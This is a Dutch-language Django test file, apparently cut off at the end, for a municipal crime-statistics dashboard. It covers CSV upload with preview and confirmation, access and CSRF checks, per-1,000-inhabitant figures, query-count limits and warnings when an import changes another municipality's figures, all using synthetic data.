"""De uploadpagina /cijfers/importeren/ en wat de cijferpagina's na een import laten zien.

Alle bestanden zijn synthetisch (tests/importbestanden).
"""

import io
import re
from decimal import Decimal
from pathlib import Path

from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.shortcuts import resolve_url
from django.test import Client, TestCase, override_settings
from django.urls import reverse

from cijfers import importeren, trends
from cijfers.importeren.referentie import ONBEKENDE_REGIO
from cijfers.models import Bevolking, Categorie, Cijfer, Import, PolitieCategorie
from ivp.models import Gebied
from tests import factories
from tests import importbestanden as ib
from tests.gebruikers import maak_gebruikers

URL = reverse("cijfers:importeren")
CASUSSEN = Path(__file__).parent / "casussen"  # de echte bestanden van ../shared/cases/


def upload(client, inhoud, naam="politie-synthetisch.csv"):
    return client.post(URL, {"bestand": SimpleUploadedFile(naam, inhoud, "text/csv")})


def brondata_en_adviseur():
    """Laadt de brongegevens en de vaste gebruikers; geeft (gebruikers, een Client waarmee de
    adviseur van Baarn is ingelogd)."""
    call_command("laad_brondata", stdout=io.StringIO())
    gebruikers = maak_gebruikers()
    client = Client()
    client.force_login(gebruikers["adviseur_baarn"])
    return gebruikers, client


def rijen(response):
    return {r["categorie"]: r for r in response.context["overzicht"].tabel.data.data}


def per_inwoners(response):
    return {r["categorie"]: r for r in response.context["overzicht"].per_inwoners.tabel.data.data}


class RechtenTest(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("laad_brondata", stdout=io.StringIO())
        cls.gebruikers = maak_gebruikers()
        cls.import_ = Import.objects.create(
            bestandsnaam="van-baarn.csv",
            soort=Import.Soort.SJABLOON,
            gebruiker=cls.gebruikers["adviseur_baarn"],
            sha256="-",
        )

    def test_anoniem_naar_inloggen(self):
        for url in [URL, self.import_.get_absolute_url()]:
            for methode in (self.client.get, self.client.post):
                response = methode(url)
                self.assertEqual(response.status_code, 302, url)
                self.assertTrue(
                    response["Location"].startswith(resolve_url(settings.LOGIN_URL)), url
                )
        self.assertEqual(Import.objects.count(), 1)

    def test_ingelogd_zonder_rol_krijgt_403(self):
        self.client.force_login(self.gebruikers["raadslid"])
        self.assertEqual(self.client.get(URL).status_code, 403)
        self.assertEqual(
            upload(self.client, b"gebied,jaar,inwoners\nSoest,2020,1\n").status_code, 403
        )
        self.assertEqual(self.client.post(self.import_.get_absolute_url()).status_code, 403)
        self.assertEqual(Import.objects.count(), 1)
        self.assertFalse(Bevolking.objects.exists())

    def test_adviseur_ziet_het_formulier_met_csrf(self):
        self.client.force_login(self.gebruikers["adviseur_baarn"])
        response = self.client.get(URL)
        self.assertContains(response, "<h1>Cijfers importeren</h1>", html=True)
        self.assertContains(response, 'enctype="multipart/form-data"')
        self.assertContains(response, 'name="csrfmiddlewaretoken"')
        self.assertContains(response, "van-baarn.csv")

    def test_post_zonder_csrf_token_geweigerd(self):
        client = Client(enforce_csrf_checks=True)
        client.force_login(self.gebruikers["adviseur_baarn"])
        response = upload(client, b"gebied,jaar,inwoners\nSoest,2020,46000\n")
        self.assertEqual(response.status_code, 403)
        self.assertEqual(Import.objects.count(), 1)
        bevestig = client.post(self.import_.get_absolute_url())
        self.assertEqual(bevestig.status_code, 403)

    def test_import_van_een_ander_niet_zichtbaar_behalve_voor_de_voorzitter(self):
        self.client.force_login(self.gebruikers["adviseur_soest"])
        self.assertEqual(self.client.get(self.import_.get_absolute_url()).status_code, 404)
        self.assertNotContains(self.client.get(URL), "van-baarn.csv")
        self.client.force_login(self.gebruikers["voorzitter"])
        self.assertEqual(self.client.get(self.import_.get_absolute_url()).status_code, 200)


class UploadTest(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("laad_brondata", stdout=io.StringIO())
        cls.gebruikers = maak_gebruikers()

    def setUp(self):
        self.client.force_login(self.gebruikers["adviseur_baarn"])

    def test_voorbeeld_dan_bevestigen(self):
        aantal = Cijfer.objects.count()
        response = upload(self.client, ib.politie_csv(ib.politie_rijen()))
        import_ = Import.objects.get()
        self.assertRedirects(response, import_.get_absolute_url())
        self.assertEqual(Cijfer.objects.count(), aantal)  # voorbeeld: nog niets opgeslagen
        voorbeeld = self.client.get(import_.get_absolute_url())
        self.assertContains(voorbeeld, "Dit is een voorbeeld: er is nog niets opgeslagen.")
        self.assertContains(
            voorbeeld, '<td class="tabular" data-telling="toegevoegd">1.200</td>', html=True
        )
        self.assertContains(voorbeeld, "codering UTF-8, scheidingsteken puntkomma")
        self.assertContains(voorbeeld, "<td>2019-2023</td>", html=True)
        self.assertContains(voorbeeld, ">Importeren</button>")

        response = self.client.post(import_.get_absolute_url())
        self.assertRedirects(response, import_.get_absolute_url())
        import_.refresh_from_db()
        self.assertEqual(import_.status, Import.Status.UITGEVOERD)
        self.assertEqual(import_.inhoud, b"")  # het bestand wordt niet bewaard
        self.assertEqual(Cijfer.objects.count(), aantal + 1200)
        historie = Cijfer.history.filter(history_change_reason=import_.reden)
        self.assertEqual(historie.count(), 1200)
        self.assertEqual(
            {h.history_user for h in historie[:5]}, {self.gebruikers["adviseur_baarn"]}
        )
        klaar = self.client.get(import_.get_absolute_url())
        self.assertContains(klaar, "Uitgevoerd op")
        self.assertContains(
            klaar, f'<a href="{reverse("cijfers:gebied", args=["baarn"])}">Baarn</a>', html=True
        )
        self.assertNotContains(klaar, ">Importeren</button>")

        # Nog eens bevestigen doet niets; hetzelfde bestand opnieuw: alles ongewijzigd.
        self.client.post(import_.get_absolute_url())
        self.assertEqual(Cijfer.objects.count(), aantal + 1200)
        upload(self.client, ib.politie_csv(ib.politie_rijen()))
        tweede = Import.objects.latest("pk")
        self.assertEqual(tweede.tellingen()["ongewijzigd"], 1200)
        self.assertContains(self.client.get(tweede.get_absolute_url()), "Er is niets te importeren")

    def test_fouten_in_een_tabel_en_alleen_de_geldige_rijen(self):
        inhoud = ib.politie_csv(
            [
                ("1.1.1", "GM0342", "2020JJ00", "40"),
                ("1.1.1", "GM99", "2020JJ00", "4"),
                ("1.1.1", "GM0308", "2020JJ00", "12,5"),
            ]  # fmt: skip
        )
        upload(self.client, inhoud)
        import_ = Import.objects.get()
        voorbeeld = self.client.get(import_.get_absolute_url())
        self.assertContains(voorbeeld, "Afgewezen rijen")
        tabel = re.search(
            r'<table class="table table-sm fouten">.*?</table>', voorbeeld.content.decode(), re.S
        )
        self.assertInHTML(
            "<tr><td class='tabular'>3</td><td>RegioS</td><td><code>GM99</code></td>"
            f"<td>{ONBEKENDE_REGIO}</td></tr>",
            tabel.group(),
        )
        self.assertIn("Geen heel getal", tabel.group())
        self.assertContains(voorbeeld, "Alleen de geldige rijen importeren")

        response = self.client.post(import_.get_absolute_url())  # zonder vinkje: niets
        self.assertContains(response, "Er is niets geïmporteerd: het bestand heeft fouten.")
        self.assertFalse(Cijfer.objects.filter(jaar=2020).exists())

        self.client.post(import_.get_absolute_url(), {"alleen_geldige": "on"})
        import_.refresh_from_db()
        self.assertTrue(import_.alleen_geldige)
        self.assertEqual(
            list(Cijfer.objects.filter(jaar=2020).values_list("gebied__slug", "waarde")),
            [("soest", 40)],
        )

    def test_bestandsfout_op_de_pagina_van_de_import(self):
        # De worker leest het bestand (hier meteen: ImmediateBackend) en vindt de fout; de
        # importpagina toont hem zoals de uploadpagina dat vroeger deed, met de weg terug.
        aantal = Cijfer.objects.count()
        response = upload(self.client, "gebied,jaar,inwoners\n".encode("utf-16"), "inwoners.csv")
        import_ = Import.objects.get()
        self.assertRedirects(response, import_.get_absolute_url())
        self.assertEqual(import_.status, Import.Status.NIET_TE_LEZEN)
        self.assertEqual(import_.inhoud, b"")  # het onleesbare bestand wordt niet bewaard
        pagina = self.client.get(import_.get_absolute_url())
        self.assertContains(pagina, "Dit bestand is niet te importeren")
        self.assertContains(pagina, "Onbekende codering (UTF-16)")
        self.assertContains(pagina, f'href="{URL}">Een ander bestand uploaden</a>')
        self.assertNotContains(pagina, ">Importeren</button>")
        self.assertNotContains(pagina, "Dit is een voorbeeld")
        self.assertEqual(Cijfer.objects.count(), aantal)
        # Bevestigen kan niet: er is geen voorbeeld.
        self.assertRedirects(
            self.client.post(import_.get_absolute_url()), import_.get_absolute_url()
        )
        self.assertEqual(Cijfer.objects.count(), aantal)

    def test_geen_bestand(self):
        response = self.client.post(URL, {})
        self.assertContains(response, "Kies een bestand.")

    @override_settings(CIJFERS_IMPORT_MAX_BYTES=2000)
    def test_te_groot_bestand_wordt_niet_opgeslagen(self):
        response = upload(self.client, b"gebied,jaar,inwoners\n" + b"Soest,2020,46000\n" * 500)
        self.assertContains(
            response, "Het bestand is te groot; het maximum is 0,0 MB."
        )  # 2000 bytes
        self.assertFalse(Import.objects.exists())

    def test_veranderd_sinds_het_voorbeeld(self):
        upload(self.client, ib.sjabloon_csv([["Soest", "autokraak", 2021, 2021, 5, "", ""]]))
        import_ = Import.objects.get()
        # Intussen importeert iemand anders hetzelfde cijfer met een andere waarde.
        controle = importeren.controleer_bestand(
            ib.sjabloon_csv([["Soest", "autokraak", 2021, 2021, 6, "", ""]])
        )
        importeren.voer_uit(
            controle, Import(bestandsnaam="ander.csv", soort=Import.Soort.SJABLOON, sha256="-")
        )
        response = self.client.post(import_.get_absolute_url())
        self.assertContains(
            response, "de cijfers in het dashboard zijn veranderd sinds dit voorbeeld"
        )
        self.assertEqual(Cijfer.objects.get(gebied__slug="soest", periode="2021").waarde, 6)
        import_.refresh_from_db()
        self.assertEqual((import_.toegevoegd, import_.gewijzigd), (0, 1))
        self.client.post(import_.get_absolute_url())  # bevestigen van het nieuwe voorbeeld
        self.assertEqual(Cijfer.objects.get(gebied__slug="soest", periode="2021").waarde, 5)


class PaginasNaImportTest(TestCase):
    """Een adviseur importeert 2019-2023 van de politie voor de BES-gemeenten en inwoners; elke
    pagina toont die jaren (maanden opgeteld tot jaren) en de cijfers per 1.000 inwoners."""

    @classmethod
    def setUpTestData(cls):
        cls.gebruikers, client = brondata_en_adviseur()
        rijen = ib.politie_rijen()
        # 2023 van Bunschoten, woninginbraken: juni geheim (leeg), dus het jaar ook.
        rijen = [
            (s, r, p, "" if (s, r, p) == ("1.1.1", "GM0313", "2023MM06") else a)
            for s, r, p, a in rijen
        ]
        # Van 2024 zijn alleen de eerste maanden bekend: geen jaarcijfer.
        rijen += [("1.1.1", "GM0308", f"2024MM0{m}", "3") for m in (1, 2, 3)]
        for inhoud in [
            ib.politie_csv(rijen),
            b"gebied,jaar,inwoners,bron\n"
            + b"".join(f"{code},{j},{20000 + 1000 * i},Synthetische inwoners\n".encode()
                       for i, (code, _) in enumerate(ib.BES) for j in range(2019, 2024)),
        ]:  # fmt: skip
            upload(client, inhoud)
            client.post(Import.objects.latest("pk").get_absolute_url())
        assert Import.objects.filter(status=Import.Status.UITGEVOERD).count() == 2

    def test_gebiedspagina_toont_de_nieuwe_jaren(self):
        response = self.client.get(reverse("cijfers:gebied", args=["baarn"]))
        self.assertEqual(
            response.context["overzicht"].jaren,
            [2015, 2016, 2017, 2018, 2019, 2020, 2021, 2022, 2023],
        )
        rij = rijen(response)["woninginbraken"]
        self.assertEqual(rij["j2023"], ib.jaarwaarde(0, 1, 2023))
        self.assertEqual(rij["j2018"], 188)  # de bron blijft staan
        self.assertEqual(rij["verschil"], ib.jaarwaarde(0, 1, 2023) - ib.jaarwaarde(0, 1, 2022))
        self.assertEqual(response.context["overzicht"].onvolledige_jaren, [2024])
        self.assertContains(response, "Van 2024 zijn nog niet alle maanden bekend")
        self.assertContains(response, "Politie, open data geregistreerde misdrijven")

    def test_halfjaarveranderingen_uit_de_maanden(self):
        response = self.client.get(reverse("cijfers:gebied", args=["baarn"]))
        rij = rijen(response)["woninginbraken"]

        def half(jaar, maanden):
            return sum(ib.maandwaarde(0, 1, jaar, m) for m in maanden)

        self.assertEqual(
            rij["h1"],
            trends.procentuele_verandering(half(2022, range(1, 7)), half(2023, range(1, 7))),
        )
        self.assertEqual(
            rij["h2"],
            trends.procentuele_verandering(half(2022, range(7, 13)), half(2023, range(7, 13))),
        )
        # Vier van de twintig categorieën hebben 2019-2023 (issue 14): het kopje blijft 2018
        # t.o.v. 2017 (de bron); woninginbraken noemt in de cel haar eigen jaren.
        self.assertContains(response, "Jan-jun 2018 t.o.v. jan-jun 2017 (%)")
        self.assertEqual(rij["periode"], "2023 t.o.v. 2022")
        self.assertContains(response, '<small class="andere-periode">(2023 t.o.v. 2022)</small>')
        # Bunschoten: juni 2023 is geheim, dus geen januari-juni, wel juli-december.
        bunschoten = rijen(self.client.get(reverse("cijfers:gebied", args=["bunschoten"])))
        self.assertNotIn("h1", bunschoten["woninginbraken"])
        self.assertIn("h2", bunschoten["woninginbraken"])
        # De bron gaat voor: in 2018 blijven de gepubliceerde percentages staan.
        self.assertEqual(
            rijen(
                self.client.get(
                    reverse("cijfers:gebied", args=["baarn"]), {"jaar": ["2017", "2018"]}
                )
            )["woninginbraken"]["h1"],
            133,
        )

    def test_geheime_maand_maakt_het_jaar_geheim(self):
        response = self.client.get(reverse("cijfers:gebied", args=["bunschoten"]))
        rij = rijen(response)["woninginbraken"]
        self.assertIsNone(rij["j2023"])
        self.assertEqual(rij["statussen"][2023], Cijfer.Status.GEHEIM)
        self.assertEqual(rij["j2022"], ib.jaarwaarde(1, 1, 2022))

    def test_per_duizend_inwoners(self):
        response = self.client.get(reverse("cijfers:gebied", args=["soest"]))
        per = per_inwoners(response)
        verwacht = Decimal(ib.jaarwaarde(4, 1, 2021) * 1000) / Decimal(24000)
        self.assertEqual(per["woninginbraken"]["j2021"], verwacht.quantize(Decimal("0.1")))
        # Inwoners van 2018 zijn onbekend: geen kolom 2018 (de aantallen staan er wel).
        self.assertNotIn("j2018", per["woninginbraken"])
        self.assertEqual(
            response.context["overzicht"].per_inwoners.jaren, [2019, 2020, 2021, 2022, 2023]
        )
        self.assertContains(
            response, '<h2 id="kop-per-inwoners">Per 1.000 inwoners</h2>', html=True
        )
        self.assertContains(response, "Bron inwoners: Synthetische inwoners.")
        self.assertContains(response, "Alleen jaren waarvan het aantal inwoners bekend is.")
        export = self.client.get(
            reverse("cijfers:gebied", args=["soest"]), {"_export": "csv", "_tabel": "per1000"}
        )
        regel = next(
            r for r in export.content.decode().splitlines() if r.startswith("woninginbraken")
        )
        self.assertIn(str(per["woninginbraken"]["j2021"]), regel.split(","))

    def test_basisteam_som_van_de_gemeenten(self):
        response = self.client.get(reverse("cijfers:gebied", args=["basisteam-bes"]))
        rij = rijen(response)["geweld: overval"]
        self.assertEqual(rij["j2021"], sum(ib.jaarwaarde(g, 3, 2021) for g in range(5)))
        self.assertEqual(rijen(response)["woninginbraken"]["j2018"], 543)  # eigen cijfer blijft
        self.assertEqual(rijen(response)["woninginbraken"]["statussen"][2023], Cijfer.Status.GEHEIM)
        self.assertEqual(
            response.context["overzicht"].afgeleide_jaren, [2019, 2020, 2021, 2022, 2023]
        )
        self.assertContains(response, 'id="afgeleid-basisteam"')
        self.assertEqual(response.context["vergelijking"].jaar, 2023)
        per = per_inwoners(response)
        inwoners = sum(20000 + 1000 * i for i in range(5))
        verwacht = Decimal(rij["j2021"] * 1000) / Decimal(inwoners)
        self.assertEqual(per["geweld: overval"]["j2021"], verwacht.quantize(Decimal("0.1")))

    def test_categoriepagina_en_verkenner(self):
        response = self.client.get(reverse("cijfers:categorie", args=["geweld-straatroof"]))
        tabel = rijen(response)
        self.assertEqual(tabel["Eemnes"]["j2020"], ib.jaarwaarde(3, 2, 2020))
        self.assertEqual(tabel["De Bilt"]["j2019"], ib.jaarwaarde(2, 2, 2019))
        self.assertEqual(
            tabel["Basisteam BES"]["j2020"], sum(ib.jaarwaarde(g, 2, 2020) for g in range(5))
        )
        self.assertContains(response, 'id="kop-per-inwoners"')
        verkenner = self.client.get(
            reverse("cijfers:verkenner"),
            {
                "gebied": ["baarn", "de-bilt"],
                "categorie": ["criminaliteit-totaal"],
                "jaar": ["2018", "2022"],
            },
        )
        tabel = rijen(verkenner)
        self.assertEqual(
            tabel["De Bilt · criminaliteit totaal"]["j2022"], ib.jaarwaarde(2, 0, 2022)
        )
        self.assertEqual(tabel["Baarn · criminaliteit totaal"]["j2018"], 1089)
        per = per_inwoners(verkenner)
        self.assertEqual(
            per["De Bilt · criminaliteit totaal"]["j2022"],
            (Decimal(ib.jaarwaarde(2, 0, 2022) * 1000) / Decimal(22000)).quantize(Decimal("0.1")),
        )

    def test_de_bilt_heeft_nu_cijfers(self):
        response = self.client.get(reverse("cijfers:gebied", args=["de-bilt"]))
        self.assertNotContains(response, "zijn nog geen cijfers opgeslagen")
        self.assertEqual(response.context["overzicht"].jaren, [2019, 2020, 2021, 2022, 2023])


class QueriesImportpaginaTest(TestCase):
    """De uploadpagina en de pagina van een import: een vast aantal queries, hoeveel imports er
    ook zijn."""

    @classmethod
    def setUpTestData(cls):
        cls.gebruikers, client = brondata_en_adviseur()
        for jaar in (2019, 2020, 2021):
            upload(client, ib.sjabloon_csv([["Soest", "autokraak", jaar, jaar, 5, "", ""]]))
        cls.import_ = Import.objects.latest("pk")

    def test_uploadpagina(self):
        for naam in ("adviseur_baarn", "voorzitter"):
            self.client.force_login(self.gebruikers[naam])
            # De sessie, de gebruiker, zijn profiel (de rechten) en de laatste tien imports
            # met hun gebruiker (select_related).
            with self.assertNumQueries(4):
                response = self.client.get(URL)
            self.assertEqual(len(response.context["imports"]), 3)

    def test_pagina_van_een_import(self):
        for naam in ("adviseur_baarn", "voorzitter"):
            self.client.force_login(self.gebruikers[naam])
            # De sessie, de gebruiker, zijn profiel (de rechten) en de import met zijn
            # gebruiker en zijn taak voor de worker (select_related, zonder het bestand zelf).
            with self.assertNumQueries(4):
                response = self.client.get(self.import_.get_absolute_url())
            self.assertContains(response, "Dit is een voorbeeld")


class QueriesNaImportTest(TestCase):
    """Maanden en inwoners kosten geen extra queries, hoeveel het er ook zijn."""

    def get(self, url, params=None):
        self.assertEqual(self.client.get(url, params or {}).status_code, 200)

    def maak(self, gebieden, categorieen, jaren):
        geb, cats = factories.dataset(gebieden=gebieden, categorieen=categorieen, jaren=1)
        team = factories.gebied(f"Team {gebieden}", soort=Gebied.Soort.BASISTEAM)
        team.leden.set(geb)
        bron = factories.bron()
        Cijfer.objects.bulk_create(
            Cijfer(gebied=g, categorie=c, jaar=2001 + j, periode=f"{2001 + j}-{m:02d}", waarde=m, bron=bron)
            for g in geb for c in cats for j in range(jaren) for m in range(1, 13)
        )  # fmt: skip
        Bevolking.objects.bulk_create(
            Bevolking(gebied=g, jaar=2000 + j, inwoners=1000 + j, bron=bron)
            for g in geb for j in range(jaren + 1)
        )  # fmt: skip
        return geb, cats, team

    def test_vast_aantal_queries(self):
        for gebieden, categorieen, jaren in [(2, 2, 2), (6, 5, 6)]:
            geb, cats, team = self.maak(gebieden, categorieen, jaren)
            cache.clear()  # koud: de gebiedspagina's niet in de onderdelencache
            # Gebied (18): de gegevensversie (ivp/gegevensversie.py), het gebied, zijn leden
            # (prefetch), de categorieën, de cijfers met inwoners, de gepubliceerde
            # veranderingen, de analyses van hoofdstuk 8 (Gemeenteanalyse: hun halfjaarnoten
            # krijgen een teken); omdat de gemeente inwoners heeft "is dat veel?" (issue 14,
            # cijfers/vergelijking.py): de prioriteiten van haar nieuwste plan met hun
            # gekoppelde categorieën (geen plan: leeg), Nederland en het basisteam, de leden
            # van het team, de
            # opgeslagen vergelijkingsgroep (geen), het jaar van de kerncijfers (geen), de
            # cijfers van team en leden (alleen de jaren die de vergelijking leest), hun
            # inwonertallen (één query); dan de veiligheidsbeleving, de toelichtingen van de
            # gemeente (issue 17), de lokale speerpunten (hier zonder prefetches: er zijn er
            # geen) en de herziene cijfers uit het plan.
            with self.assertNumQueries(18):
                self.get(reverse("cijfers:gebied", args=[geb[0].slug]))
            # Basisteam (11): de gegevensversie, het team, zijn leden (prefetch), de
            # categorieën, de eigen cijfers, de cijfers van de leden, de gepubliceerde
            # veranderingen; omdat het team (de som van zijn leden) inwoners heeft "is dat
            # veel?" naast Nederland (proefgebruik punt 7, cijfers/vergelijking.py
            # _teamvergelijking): Nederland (hier niet opgeslagen, dus niet zijn cijfers en
            # inwonertallen); de veiligheidsbeleving, de toelichtingen van het team (issue 17)
            # en de herziene cijfers uit het plan (een basisteam heeft geen lokale
            # speerpunten: die query valt weg). De maanden van het team zijn de som van die van
            # de leden: geen query.
            with self.assertNumQueries(11):
                self.get(reverse("cijfers:gebied", args=[team.slug]))
            # Categorie (8): de gegevensversie (de pagina per versie in de cache), de
            # categorie, de gebieden (elk met of het eigen cijfers heeft), de leden van de
            # basisteams (prefetch), de cijfers met inwoners van de getoonde gebieden, de
            # gepubliceerde veranderingen, de toelichtingen van de getoonde gebieden (issue 17)
            # en hun analyses uit hoofdstuk 8. (Geen gemeente getoond, alleen het team: dus
            # geen vergelijking per 1.000 inwoners en geen queries daarvoor.)
            with self.assertNumQueries(8):
                self.get(reverse("cijfers:categorie", args=[cats[0].slug]))
            # Verkenner (6): de jaren met cijfers, de gekozen gebieden (controle van het
            # filter), de eigen en gekozen gebieden (vinkjes en namen van de reeksen), de
            # categorieën met hun ouder (vinkjes en namen), de gegevensversie (de selectie per
            # versie in de cache) en de cijfers met inwoners.
            with self.assertNumQueries(6):
                self.get(reverse("cijfers:verkenner"), {"gebied": [g.slug for g in geb]})

    def test_sommen_en_verhoudingen_van_de_gegenereerde_maanden(self):
        geb, cats, team = self.maak(2, 1, 2)
        response = self.client.get(reverse("cijfers:gebied", args=[geb[0].slug]))
        rij = rijen(response)[cats[0].naam]
        self.assertEqual((rij["j2000"], rij["j2001"], rij["j2002"]), (10, 78, 78))  # 1+...+12
        per = per_inwoners(response)
        self.assertEqual(per[cats[0].naam]["j2001"], Decimal("77.9"))  # 78 / 1001 * 1000


class BeheerTest(TestCase):
    """De koppeling van soorten misdrijf is in het beheer te wijzigen; imports zijn er te lezen."""

    @classmethod
    def setUpTestData(cls):
        call_command("laad_brondata", stdout=io.StringIO())
        cls.beheerder = maak_gebruikers()["beheerder"]

    def setUp(self):
        self.client.force_login(self.beheerder)

    def wijzig(self, code, categorie):
        soort = PolitieCategorie.objects.get(code=code)
        return self.client.post(
            reverse("admin:cijfers_politiecategorie_change", args=[soort.pk]),
            {"code": soort.code, "naam": soort.naam, "volgorde": soort.volgorde,
             "categorie": Categorie.objects.get(slug=categorie).pk if categorie else ""},
        )  # fmt: skip

    def test_koppeling_wijzigen_en_de_volgende_import_volgt(self):
        inhoud = ib.politie_csv([("1.2.3", "GM0342", "2021JJ00", "40")])
        voorstel = importeren.maak_voorstel(importeren.controleer_bestand(inhoud))
        self.assertLess(voorstel.toegevoegd[0].categorie, 0)  # eigen categorie bij het schrijven
        self.assertEqual(self.wijzig("1.2.3", "fietsdiefstal").status_code, 302)
        voorstel = importeren.maak_voorstel(importeren.controleer_bestand(inhoud))
        fietsdiefstal = Categorie.objects.get(slug="fietsdiefstal").pk
        self.assertEqual(
            [(r.categorie, r.waarde) for r in voorstel.toegevoegd], [(fietsdiefstal, 40)]
        )

    def test_een_categorie_hoort_bij_hoogstens_een_soort(self):
        response = self.wijzig("1.1.2", "woninginbraken")  # 1.1.1 is al woninginbraken
        self.assertEqual(response.status_code, 200)
        self.assertContains(
            response, "Deze categorie is al aan een andere soort misdrijf gekoppeld"
        )

    def test_lijst_en_import_in_het_beheer(self):
        lijst = self.client.get(reverse("admin:cijfers_politiecategorie_changelist"))
        self.assertContains(lijst, "Diefstal/inbraak woning")
        controle = importeren.controleer_bestand(
            ib.sjabloon_csv([["Soest", "autokraak", 2021, 2021, 5, "", ""]])
        )
        import_ = Import(
            bestandsnaam="beheer-synthetisch.csv", soort=Import.Soort.SJABLOON, sha256="-"
        )
        importeren.voer_uit(controle, import_, self.beheerder)
        self.assertContains(
            self.client.get(reverse("admin:cijfers_import_changelist")), "beheer-synthetisch.csv"
        )
        detail = self.client.get(reverse("admin:cijfers_import_change", args=[import_.pk]))
        self.assertContains(detail, import_.get_absolute_url())
        self.assertEqual(self.client.get(reverse("admin:cijfers_import_add")).status_code, 403)


class AndereGemeenteTest(TestCase):
    """Proefgebruiker, punt 10: het voorbeeld zegt welke bestaande cijfers van andere gemeenten
    dan de eigen het bestand wijzigt, vóór het bevestigen. Wie mag importeren blijft gelijk."""

    @classmethod
    def setUpTestData(cls):
        call_command("laad_brondata", stdout=io.StringIO())
        cls.gebruikers = maak_gebruikers()
        # Het echte bestand c01: Baarn 2024 = 41, Soest 2024 = 87 (woninginbraken).
        ib.importeer((CASUSSEN / "c01_pandas_to_csv_float_aantallen.csv").read_bytes())
        cls.c03 = (CASUSSEN / "c03_sjabloon_excel_lege_puntkommarijen.csv").read_bytes()

    def voorbeeld(self, naam, inhoud):
        self.client.force_login(self.gebruikers[naam])
        upload(self.client, inhoud, naam="c03.csv")
        return Import.objects.latest("pk")

    def test_adviseur_van_baarn_ziet_dat_een_cijfer_van_soest_verandert(self):
        # c03: Soest 2024 wordt 52 (was 87), Baarn 2024 wordt 33 (was 41).
        import_ = self.voorbeeld("adviseur_baarn", self.c03)
        # De sessie, de gebruiker, zijn profiel, de import en de gemeenten van zijn profiel.
        with self.assertNumQueries(5):
            response = self.client.get(import_.get_absolute_url())
        self.assertContains(
            response, "Dit bestand wijzigt 1 bestaand cijfer van Soest, niet uw gemeente."
        )
        self.assertContains(response, ">Importeren</button>")  # mag nog steeds
        # De voorzitter ziet het voorbeeld van de adviseur met dezelfde waarschuwing.
        self.client.force_login(self.gebruikers["voorzitter"])
        self.assertContains(
            self.client.get(import_.get_absolute_url()),
            "Dit bestand wijzigt 1 bestaand cijfer van Soest, geen gemeente van adviseur_baarn.",
        )
        # Zijn eigen upload van hetzelfde bestand: hij mag alles, geen waarschuwing.
        eigen = self.voorbeeld("voorzitter", self.c03)
        self.assertNotContains(self.client.get(eigen.get_absolute_url()), 'id="buiten-eigen"')
        self.client.force_login(self.gebruikers["adviseur_baarn"])
        self.client.post(import_.get_absolute_url())
        self.assertEqual(
            Cijfer.objects.get(
                gebied__slug="soest", categorie__slug="woninginbraken", jaar=2024
            ).waarde,
            52,
        )

    def test_adviseur_van_soest_ziet_baarn_en_nieuwe_cijfers_tellen_niet(self):
        import_ = self.voorbeeld("adviseur_soest", self.c03)
        self.assertContains(
            self.client.get(import_.get_absolute_url()),
            "Dit bestand wijzigt 1 bestaand cijfer van Baarn, niet uw gemeente.",
        )
        # Alleen nieuwe cijfers (Eemnes 2024 bestaat nog niet): geen waarschuwing.
        nieuw = self.voorbeeld(
            "adviseur_soest", ib.sjabloon_csv([["Eemnes", "woninginbraken", 2024, 2024, 9, "", ""]])
        )
        self.assertNotContains(self.client.get(nieuw.get_absolute_url()), 'id="buiten-eigen"')

    def test_meer_gemeenten_en_cijfers_uit_het_plan(self):
        # Synthetisch: twee cijfers van Eemnes en één van Bunschoten uit het plan (2018).
        rijen = [
            ["Eemnes", "woninginbraken", 2018, 2018, 999, "", ""],
            ["Eemnes", "autokraak", 2018, 2018, 998, "", ""],
            ["Bunschoten", "autokraak", 2018, 2018, 997, "", ""],
            ["Baarn", "autokraak", 2018, 2018, 996, "", ""],
        ]
        import_ = self.voorbeeld("adviseur_baarn", ib.sjabloon_csv(rijen))
        self.assertContains(
            self.client.get(import_.get_absolute_url()),
            "Dit bestand wijzigt 3 bestaande cijfers buiten uw gemeenten: Bunschoten (1) en Eemnes (2).",
        )
        # Punt 18: de getallen zijn alleen bestaande cijfers; nieuwe cijfers van diezelfde
        # gemeenten (hier twee van Eemnes, 2024 bestaat nog niet) staan er apart bij. Een
        # nieuw cijfer van Baarn (de eigen gemeente) telt niet mee.
        nieuw = [
            ["Eemnes", "woninginbraken", 2024, 2024, 9, "", ""],
            ["Eemnes", "autokraak", 2024, 2024, 8, "", ""],
            ["Baarn", "autokraak", 2024, 2024, 7, "", ""],
        ]
        import_ = self.voorbeeld("adviseur_baarn", ib.sjabloon_csv(rijen + nieuw))
        self.assertContains(
            self.client.get(import_.get_absolute_url()),
            "Dit bestand wijzigt 3 bestaande cijfers buiten uw gemeenten: Bunschoten (1) en "
            "Eemnes (2); daar komen ook 2 nieuwe cijfers bij.",
        )
        import_ = self.voorbeeld("adviseur_baarn", ib.sjabloon_csv(rijen[:1] + nieuw[:1]))
        self.assertContains(
            self.client.get(import_.get_absolute_url()),
            "Dit bestand wijzigt 1 bestaand cijfer van Eemnes, niet uw gemeente; daar komt "
            "ook 1 nieuw cijfer bij.",
        )


class JaarTegenMaandenPaginaTest(TestCase):
    """Proefgebruiker, punt 3: het voorbeeld op de pagina waarschuwt vóór het bevestigen dat een
    jaarcijfer niet gelijk is aan de som van de opgeslagen maanden; bevestigen kan toch."""

    @classmethod
    def setUpTestData(cls):
        cls.gebruikers, _ = brondata_en_adviseur()
        # Baarn 2024 opgeslagen: maanden 5+8+12+9+11+10+7+13+9+12+14+10 = 120 (met de hand).
        maanden = [5, 8, 12, 9, 11, 10, 7, 13, 9, 12, 14, 10]
        ib.importeer(ib.sjabloon_csv(
            [["Baarn", "woninginbraken", 2024, f"2024-{m:02d}", w, "", ""]
             for m, w in enumerate(maanden, start=1)]
        ))  # fmt: skip

    def test_waarschuwing_en_toch_bevestigen(self):
        self.client.force_login(self.gebruikers["adviseur_baarn"])
        upload(self.client, ib.sjabloon_csv([["Baarn", "woninginbraken", 2024, 2024, 41, "", ""]]))
        import_ = Import.objects.latest("pk")
        # De sessie, de gebruiker, zijn profiel en de import (de waarschuwing staat in het
        # voorbeeld zelf): dezelfde 4 als elk voorbeeld zonder cijfers van andere gemeenten.
        with self.assertNumQueries(4):
            response = self.client.get(import_.get_absolute_url())
        self.assertContains(
            response,
            "<li>Baarn, woninginbraken 2024: jaarcijfer 41, maar de twaalf maanden tellen op tot "
